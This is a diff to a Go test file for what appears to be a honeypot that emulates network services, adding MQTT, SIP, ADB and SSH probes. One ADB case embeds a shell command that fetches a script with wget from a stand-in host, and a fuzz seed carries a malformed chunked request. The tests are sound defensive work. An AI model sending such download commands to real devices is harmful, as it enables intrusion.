@@ -50,6 +50,11 @@ func TestServices(t *testing.T) {
 		{"smb", 445, "\x00\x00\x00\x2f\xffSMB\x72" + strings.Repeat("\x00", 27) + "\x00\x0c\x00\x02NT LM 0.12\x00", "\xffSMB"},
 		{"tds", 1433, "\x12\x01\x00\x1a\x00\x00\x01\x00" + strings.Repeat("\x00", 18), "\x04\x01"},
 		{"dcerpc", 135, "\x05\x00\x0b\x03\x10\x00\x00\x00\x10\x00\x00\x00\x01\x00\x00\x00", "\x05\x00\x0c"},
+		{"mqtt", 1883, "\x10\x0d\x00\x04MQTT\x04\x02\x00\x3c\x00\x01a\x32\x08\x00\x01t\x00\x07abc\x82\x06\x00\x08\x00\x01t\x00\xe0\x00", "\x20\x02\x00\x00\x40\x02\x00\x07\x90\x03\x00\x08\x00"},
+		{"mqtt", 4444, "\x10\x0d\x00\x04MQTT\x05\x02\x00\x3c\x00\x00\x01a", "\x20\x03\x00\x00\x00"}, // version 5
+		{"sip", 5060, "OPTIONS sip:a@b SIP/2.0\r\nVia: SIP/2.0/TCP c;branch=z9hG4bK1\r\nFrom: <sip:c>;tag=2\r\nTo: <sip:a@b>\r\nCall-ID: 3\r\nCSeq: 1 OPTIONS\r\n\r\n", "To: <sip:a@b>;tag=1\r\nCall-ID: 3\r\nCSeq: 1 OPTIONS"},
+		{"adb", 5555, string(adbMessage(adbConnect, adbVersion, 4096, []byte("host::\x00"))) + string(adbMessage(adbOpen, 7, 0, []byte("shell:wget http://x/a.sh\x00"))), "wget: not found"},
+		{"ssh", 22, "SSH-2.0-x\r\n", "SSH-2.0-"},
 		{"generic", 4444, "anything at all", ""},
 		{"generic", 4445, "", "220 ready"},
 		{"dns", 53, "\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03org\x00\x00\x01\x00\x01", "\xc6"},
@@ -84,7 +89,7 @@ func TestDatagramsAreNotAmplified(t *testing.T) {
 // FuzzServe gives each service hostile bytes: it ends in time, and what it was
 // sent is recorded as it was.
 func FuzzServe(f *testing.F) {
-	ports := []uint16{80, 443, 445, 1433, 135, 21, 23, 25, 6379, 53, 4444}
+	ports := []uint16{80, 443, 445, 1433, 135, 21, 23, 25, 6379, 53, 4444, 22, 5060, 1883, 5555}
 	for i := range ports {
 		f.Add(uint8(i), []byte("\x00\x00\x00\x2f\xffSMB\x72"))
 		f.Add(uint8(i), []byte("GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n"))
